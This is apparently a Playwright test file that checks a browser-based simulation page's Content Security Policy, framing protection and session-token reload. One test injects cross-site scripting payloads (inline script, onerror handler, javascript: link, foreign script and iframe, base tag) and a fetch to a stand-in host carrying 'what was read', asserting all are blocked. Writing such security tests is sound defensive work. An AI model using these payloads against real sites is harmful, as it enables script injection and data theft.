"""What the browser enforces for the page: nothing foreign runs in it or around it, and it never breaks a rule of its own."""

from __future__ import annotations

import time

import pytest

from tests.ui.conftest import Lab, served

BROKEN = """window.broken = []
document.addEventListener("securitypolicyviolation", (e) => broken.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}`))"""


@pytest.fixture
def watched(lab):
    """A page that notes which of its rules was broken, by anything in it."""
    lab.page.add_init_script(BROKEN)
    lab.broken = lambda: lab.page.evaluate("broken")
    return lab


def test_the_page_breaks_none_of_its_rules_while_it_plays_exports_and_shows_everything(watched, server):
    lab = watched.open(server.page)
    lab.wait(lambda: lab.step > 5, "the swarm does not move")
    lab.slide("dynamics.sigma", 0.3)
    lab.choose("dynamics", "FiniteSet")
    lab.choose("dynamics", "CBO")
    lab.page.click("[aria-label^='Open panel']")
    for tab in ("Model", "Luck", "Runs", "Export"):
        lab.page.get_by_role("tab", name=tab, exact=True).click()
        lab.page.wait_for_timeout(300)
    lab.page.locator("section.exports").scroll_into_view_if_needed()
    for what in ("arena.png", "curves.csv", "replay.html"):
        with lab.page.expect_download(timeout=60_000):
            lab.page.click(f"[data-what='{what}']")
    for _ in ("dark", "light"):
        lab.page.click("[aria-label='Toggle theme']")
        lab.page.wait_for_timeout(500)
    lab.page.get_by_role("button", name="Compare").click()
    lab.page.hover(".arena")
    lab.page.wait_for_timeout(500)
    assert lab.broken() == [] and not lab.complaints
    here = f"{server.url}/"
    assert all(address.startswith((here, f"blob:{here}", "data:")) for address in lab.addresses)


def test_what_somebody_slips_into_the_page_does_not_run_and_cannot_speak_to_others(watched, server):
    lab = watched.open(server.page)
    lab.page.evaluate(
        """async () => {
          const add = (html) => document.body.append(document.createRange().createContextualFragment(html))
          add("<script>window.ran = 1</script>")
          add("<img src='nothing' onerror='window.ran = 2'>")
          add("<a id=bait href='javascript:window.ran=3'>x</a>"); document.getElementById("bait").click()
          add("<script src='https://elsewhere.example/x.js'></script>")
          add("<iframe src='https://elsewhere.example/'></iframe>")
          add("<base href='https://elsewhere.example/'>")
          await fetch("https://elsewhere.example/?what=was%20read").catch(() => {})
        }"""
    )
    lab.page.wait_for_timeout(500)
    assert lab.page.evaluate("window.ran") is None
    assert {line.split()[0] for line in lab.broken()} >= {
        "script-src-elem",
        "script-src-attr",
        "frame-src",
        "base-uri",
        "connect-src",
    }


def test_another_page_cannot_show_ours_in_a_frame(browser, server):
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{server.url}/alive")  # any page, even one of the same server
    page.evaluate("(address) => { document.body.innerHTML = `<iframe src='${address}'></iframe>` }", server.page)
    page.wait_for_timeout(1500)
    assert all(frame.query_selector("#loader") is None for frame in page.frames)
    context.close()


def test_a_browser_that_slept_between_page_and_socket_loads_the_page_again(browser, tmp_path):
    with served(tmp_path / "log.txt", "--session-token-expiration", "3") as here:
        context = browser.new_context()
        lab = Lab(context.new_page())
        slow = []

        def sleep(route):
            if not slow:
                slow.append(route.request.url)
                time.sleep(5)  # longer than a token lives
            route.continue_()

        lab.page.route("**/bokeh.min.js*", sleep)
        loads = []
        lab.page.on("framenavigated", lambda frame: loads.append(frame.url))
        lab.page.goto(here.page)
        lab.page.wait_for_selector(".readout .k", timeout=60_000)
        lab.wait(lambda: lab.step is not None, "no picture was painted", 30)
        assert slow and len(loads) >= 2
        context.close()
